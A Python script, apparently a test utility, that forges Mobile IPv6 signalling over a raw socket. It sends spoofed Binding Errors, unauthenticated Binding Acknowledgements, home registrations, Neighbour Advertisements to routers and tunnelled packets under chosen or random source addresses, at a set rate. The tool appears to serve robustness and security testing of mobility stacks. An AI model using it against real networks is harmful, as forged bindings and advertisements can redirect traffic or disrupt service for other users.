#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""Sends, under any name, what a mobile node may not believe.

    forge.py be SRC COA HOA STATUS              Binding Errors of SRC
    forge.py ba SRC COA HOA SEQ STATUS          Binding Acknowledgements of SRC without an authenticator, for SEQ and the
                                                seven numbers after it
    forge.py bu HA SRC HOA COA SEQ              home registrations that come from SRC and name COA, for SEQ and the seven numbers after
    forge.py mps HA SRC HOA                     Mobile Prefix Solicitations of HOA that come from SRC
    forge.py hoti HA COA HOA CN                 Home Test Inits to CN in a plain tunnel from COA to the home agent
    forge.py na HA COA HOA TARGET               Neighbour Advertisements of TARGET to the site's routers, in a plain tunnel from COA
    forge.py names HA COA HOA                   packets in the home agent's tunnel, each from another address
    forge.py tunnel HA COA HOA SRC              the same, all from SRC

    --count N (100), --rate N a second (100)
"""

import argparse
import ipaddress
import os
import random
import socket
import struct
import sys
import time

sys.path.insert(0, os.path.join(os.path.dirname(__file__), "../roaming"))
from inject import checksum, ipv6, udp  # noqa: E402

MH, ROUTING, OPTIONS, NONE, HOTI, BU, BA, BE = 135, 43, 60, 59, 1, 5, 6, 7


def mobility(src, dst, kind, body):
    """A Mobility Header message; dst as the upper layer sees it."""
    body += b"\1\0"[: -(len(body) + 6) % 8]
    body += b"\0" * (-(len(body) + 6) % 8)
    head = struct.pack("!BBBB", NONE, (6 + len(body)) // 8 - 1, kind, 0)
    total = checksum(src + dst + struct.pack("!IHBB", 6 + len(body), 0, 0, MH) + head + b"\0\0" + body)
    return head + struct.pack("!H", total) + body


def home_address(following, hoa):
    """A Destination Options header with a Home Address option."""
    return struct.pack("!BBBBBB", following, 2, 1, 2, 0, 0) + b"\xc9\x10" + hoa


def packets(args):
    a = [ipaddress.IPv6Address(x).packed for x in args.words[:3]]
    random.seed(1)
    for i in range(args.count):
        if args.what == "be":
            src, coa, hoa = a
            yield coa, ipv6(src, coa, MH, 0, mobility(src, coa, BE, bytes([int(args.words[3]), 0]) + hoa))
        elif args.what == "ba":
            src, coa, hoa = a
            seq = int(args.words[3]) + i % 8 & 0xFFFF
            message = mobility(src, hoa, BA, struct.pack("!BBHH", int(args.words[4]), 0, seq, 0))
            route = struct.pack("!BBBBI", MH, 2, 2, 1, 0) + hoa
            yield coa, ipv6(src, coa, ROUTING, 0, route + message)
        elif args.what == "bu":
            ha, src, hoa = a
            body = struct.pack("!HHH", int(args.words[4]) + i % 8 & 0xFFFF, 0xC000, 100) + b"\1\0\3\x10" + ipaddress.IPv6Address(args.words[3]).packed
            yield ha, ipv6(src, ha, OPTIONS, 0, home_address(MH, hoa) + mobility(hoa, ha, BU, body))
        elif args.what == "mps":
            ha, src, hoa = a
            body = struct.pack("!HH", i + 1, 0)
            total = checksum(hoa + ha + struct.pack("!IHBB", 8, 0, 0, 58) + b"\x92\0\0\0" + body)
            yield ha, ipv6(src, ha, OPTIONS, 0, home_address(58, hoa) + b"\x92\0" + struct.pack("!H", total) + body)
        elif args.what == "na":
            ha, coa, hoa = a
            routers = ipaddress.IPv6Address("ff05::2").packed
            body = struct.pack("!I", 0x20000000) + ipaddress.IPv6Address(args.words[3]).packed + b"\2\1" + bytes.fromhex("02badbadbad0")
            total = checksum(hoa + routers + struct.pack("!IHBB", 4 + len(body), 0, 0, 58) + b"\x88\0\0\0" + body)
            inner = ipv6(hoa, routers, 58, 0, b"\x88\0" + struct.pack("!H", total) + body)
            yield ha, ipv6(coa, ha, 41, 0, inner[:7] + b"\xff" + inner[8:])
        elif args.what == "hoti":
            ha, coa, hoa = a
            cn = ipaddress.IPv6Address(args.words[3]).packed
            yield ha, ipv6(coa, ha, 41, 0, ipv6(hoa, cn, MH, 0, mobility(hoa, cn, HOTI, bytes(2) + random.randbytes(8))))
        else:
            ha, coa, hoa = a
            src = ipaddress.IPv6Address(args.words[3]).packed if args.what == "tunnel" else bytes.fromhex("20010db8dead0000") + random.randbytes(8)
            yield coa, ipv6(ha, coa, 41, 0, ipv6(src, hoa, 17, 0, udp(src, hoa, 9999)))


def main():
    parser = argparse.ArgumentParser(description="messages under any name")
    parser.add_argument("what", choices=("be", "ba", "bu", "hoti", "mps", "na", "names", "tunnel"))
    parser.add_argument("words", nargs="+")
    parser.add_argument("--count", type=int, default=100)
    parser.add_argument("--rate", type=float, default=100)
    args = parser.parse_args()
    s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW)
    begun = time.monotonic()
    for i, (to, packet) in enumerate(packets(args)):
        s.sendto(packet, (str(ipaddress.IPv6Address(to)), 0))
        time.sleep(max(0, begun + (i + 1) / args.rate - time.monotonic()))


if __name__ == "__main__":
    main()
